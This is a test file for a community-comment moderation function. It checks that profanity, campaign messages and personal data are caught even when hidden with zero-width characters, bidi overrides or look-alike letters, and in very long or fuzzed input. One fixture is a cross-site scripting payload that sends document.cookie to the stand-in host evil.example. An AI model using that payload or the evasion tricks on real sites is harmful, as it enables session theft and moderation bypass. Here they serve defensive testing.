import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { screen } from '../../main/moderation/screen';
import { KALISPELL_POLICY } from '../../main/moderation/seed-policy';
import { LABELS, type Verdict } from '../../main/moderation/types';

const POST = 'The skate park at Begg Park is open; helmets are recommended.';

function wellFormed(text: string, v: Verdict): void {
  expect(LABELS).toEqual(expect.arrayContaining(v.labels));
  expect(v.confidence).toBeGreaterThanOrEqual(0);
  expect(v.confidence).toBeLessThanOrEqual(1);
  for (const e of v.evidence) {
    expect(e.start).toBeGreaterThanOrEqual(0);
    expect(e.end).toBeGreaterThan(e.start);
    expect(e.end).toBeLessThanOrEqual(text.length);
    expect(e.text).toBe(text.slice(e.start, e.end));
  }
  const removing = v.labels.some((l) => l !== 'service_complaint');
  if (v.action === 'allow') expect(v.labels).toEqual([]);
  if (v.action === 'redirect') expect(v.labels).toEqual(['service_complaint']);
  if (v.action === 'remove') expect(removing).toBe(true);
}

describe('hostile text', () => {
  it('[CIV-6] screens script tags as text and still finds the violation (6c)', () => {
    const text = '<script>document.location="https://evil.example/?c="+document.cookie</script> f*** this park';
    const v = screen({ id: 'h', post: POST, text });
    wellFormed(text, v);
    expect(v.labels).toContain('profane_threat_harass');
    expect(v.evidence.find((e) => e.label === 'profane_threat_harass')?.text).toBe('f***');
  });

  it('[CIV-6] sees through zero-width characters and reports original offsets (6c)', () => {
    const text = 'what a f\u200Bu\u200Cc\u200Dk\uFEFFing waste';
    const v = screen({ id: 'h', post: POST, text });
    wellFormed(text, v);
    const e = v.evidence.find((x) => x.label === 'profane_threat_harass');
    expect(e?.start).toBe(7);
    expect(e?.text.startsWith('f\u200Bu')).toBe(true);
  });

  it('[CIV-6] reads bidi-overridden text in display order (6c)', () => {
    const text = 'nice park \u202Ekcuf\u202C the helmets';
    const v = screen({ id: 'h', post: POST, text });
    wellFormed(text, v);
    expect(v.labels).toContain('profane_threat_harass');
    expect(v.evidence[0]?.text).toBe('kcuf');
  });

  it('[CIV-6] folds fullwidth and look-alike letters (6c)', () => {
    expect(screen({ id: 'h', post: POST, text: 'ｆｕｃｋ the helmet rule' }).labels).toContain('profane_threat_harass');
    expect(screen({ id: 'h', post: POST, text: 'sh\u0456t park' }).labels).toContain('profane_threat_harass');
  });

  it('[CIV-6] screens a 100 KB comment without error in bounded time', () => {
    const unit = 'ok <script>x</script> \u202Ereversed\u202C a\u200Bb 406-555-0101 vote yes on measure 4 ';
    const text = unit.repeat(Math.ceil(100_000 / unit.length)).slice(0, 100_000);
    const started = performance.now();
    const v = screen({ id: 'big', post: POST, text });
    expect(performance.now() - started).toBeLessThan(5_000);
    wellFormed(text, v);
    expect(v.labels).toContain('campaign');
    const benign = 'the skate park looks great '.repeat(4_000);
    const b = screen({ id: 'big2', post: POST, text: benign });
    expect(b.action).toBe('needs_review');
    expect(b.reason).toMatch(/only the first 50000 characters/);
  });

  it('[CIV-4] never edits a comment: the input is untouched and evidence quotes it verbatim', () => {
    const input = Object.freeze({ id: 'h', post: POST, text: 'Her SSN is 123-45-6789 \u200B lol' });
    const v = screen(input);
    expect(input.text).toBe('Her SSN is 123-45-6789 \u200B lol');
    expect(v.evidence.every((e) => input.text.slice(e.start, e.end) === e.text)).toBe(true);
    expect(JSON.stringify(v)).not.toContain('"text":"Her SSN is');
  });

  it('[CIV-6] never throws and always returns well-formed verdicts on arbitrary text', () => {
    const hostileChar = fc.constantFrom('\u200B', '\u202E', '\u202C', '\u2066', '\uFEFF', '\u0301', '\uD83D', '\uDE00', '<', '>', '"', '\n', '*', '@', '$', 'ｆ', 'і', '🍆', '🔞');
    const word = fc.constantFrom('fuck', 'vote', 'yes on measure 4', 'idiot', 'you are', '123-45-6789', '406-555-0101', 'lives at 12 Oak St', 'nobody checks', 'pro tip', 'password is abc123', 'DM me', '$20 each', 'shit', 'happy birthday');
    const piece = fc.oneof(fc.string({ maxLength: 12 }), hostileChar, word);
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), fc.string({ maxLength: 40 }), (parts, post) => {
        const text = parts.join(' ');
        const v = screen({ id: 'p', post, text }, KALISPELL_POLICY);
        wellFormed(text, v);
      }),
      { numRuns: 400 },
    );
  });
});
